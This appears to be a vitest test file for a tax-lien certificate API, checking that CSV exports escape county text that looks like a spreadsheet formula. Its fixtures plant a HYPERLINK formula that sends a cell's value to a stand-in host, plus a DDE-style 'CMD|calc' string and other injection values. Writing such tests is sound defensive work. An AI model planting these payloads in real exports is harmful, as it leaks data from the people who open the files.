import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../../../services/api/app.ts';
import { CERTIFICATE_COLUMNS } from '../../../../services/api/routes/certificates/row.ts';
import { enqueueFiles } from '../../../../services/process/ingest-runner.ts';
import { apiKeyHeaders } from '../../../helpers/access.ts';
import { openTestRuntime, type TestRuntime } from '../../../helpers/runtime.ts';

/**
 * The attack: a bidder registers a holder name that is a spreadsheet formula, and it would run
 * in the spreadsheet of every customer who exports that county.
 */
const PLANTED = '=HYPERLINK("https://x.example/?d="&S2,"Parcel")';

/** Face amounts fall with n, so face_desc lists the rows in file order. */
const row = (n: number, fields: Record<string, unknown>) => ({
  certificateNumber: `2024-00090${n}`,
  parcelId: `01-3125-041-001${n}`,
  taxYear: 2024,
  status: 'sold',
  faceAmount: 1000 * (5 - n) + 0.56,
  delinquentAmount: 900.1,
  interestRate: 0.25,
  saleDate: '2025-05-28',
  holderName: 'Gulf Coast Lien Fund II, LLC',
  struckToCounty: false,
  redemption: null,
  taxDeedApplicationDate: null,
  ownerName: 'SMITH, JOHN',
  siteAddress: '123 NW 5TH ST, MIAMI, FL 33101',
  legalDescription: null,
  batchNumber: 'B-07',
  ...fields,
});

const FEED = [
  { feed: 'certbid-certificates', version: 1, county: 'miami-dade', taxYear: 2024, generatedAt: '2025-07-01T06:00:00Z' },
  row(1, { holderName: PLANTED }),
  row(2, { ownerName: '+1 OWNER', siteAddress: '@SUM(A1:A9)' }),
  row(3, { ownerName: '－CMD|calc', siteAddress: '＝1+1', holderName: '＠Fund' }),
  row(4, {}),
  { trailer: true, count: 4 },
]
  .map((o) => JSON.stringify(o))
  .join('\n');

describe('CSV export writes county text that looks like a formula as text', () => {
  let t: TestRuntime;
  let app: FastifyInstance;
  let dir: string;

  beforeAll(async () => {
    t = await openTestRuntime(import.meta.url);
    dir = mkdtempSync(join(tmpdir(), 'csv-formulas-'));
    const file = join(dir, 'planted.jsonl');
    writeFileSync(file, `${FEED}\n`);
    const [outcome] = await enqueueFiles(
      t.runtime,
      [{ dataset: 'certificates', file, vendor: 'certbid', county: 'miami-dade', taxYear: 2024 }],
      { wait: true },
    );
    expect(outcome!.status).toBe('succeeded');
    app = await buildApp(t.runtime);
  });
  afterAll(async () => {
    await app?.close();
    await t.teardown();
    rmSync(dir, { recursive: true, force: true });
  });

  const exportCsv = async (headers: Record<string, string> = {}, query = '&format=csv') => {
    const res = await app.inject({
      method: 'GET',
      url: `/api/v1/certificates/search?county=miami-dade&sort=face_desc&limit=10${query}`,
      headers: { ...(await apiKeyHeaders(t.runtime)), ...headers },
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const [header, ...rows] = parse(res.body) as string[][];
    expect(header).toEqual(CERTIFICATE_COLUMNS);
    return rows.map((r) => Object.fromEntries(header!.map((c, i) => [c, r[i]!])));
  };

  it('JSON still answers the names as the county file has them', async () => {
    const res = await app.inject({
      method: 'GET',
      url: '/api/v1/certificates/search?county=miami-dade&sort=face_desc&limit=10',
      headers: await apiKeyHeaders(t.runtime),
    });
    expect(res.json().data.map((r: { holder_name: string }) => r.holder_name)).toEqual([
      PLANTED,
      'Gulf Coast Lien Fund II, LLC',
      '＠Fund',
      'Gulf Coast Lien Fund II, LLC',
    ]);
  });

  it('writes every formula-like text cell behind a quote, by format=csv and by Accept: text/csv', async () => {
    for (const rows of [await exportCsv(), await exportCsv({ accept: 'text/csv' }, '')]) {
      expect(rows.map((r) => r.holder_name)).toEqual([
        `'${PLANTED}`,
        'Gulf Coast Lien Fund II, LLC',
        "'＠Fund",
        'Gulf Coast Lien Fund II, LLC',
      ]);
      expect(rows.map((r) => r.owner_name)).toEqual(['SMITH, JOHN', "'+1 OWNER", "'－CMD|calc", 'SMITH, JOHN']);
      expect(rows.map((r) => r.site_address_full).slice(1, 3)).toEqual(["'@SUM(A1:A9)", "'＝1+1"]);
      // No cell of the export starts with a character a spreadsheet would evaluate.
      for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
  });

  it('leaves numbers and ordinary text as they are', async () => {
    const [first] = await exportCsv();
    expect(first).toMatchObject({
      face_amount: '4000.56',
      interest_rate: '0.25',
      tax_year: '2024',
      certificate_number: '2024-000901',
      redeemed: 'false',
    });
  });
});
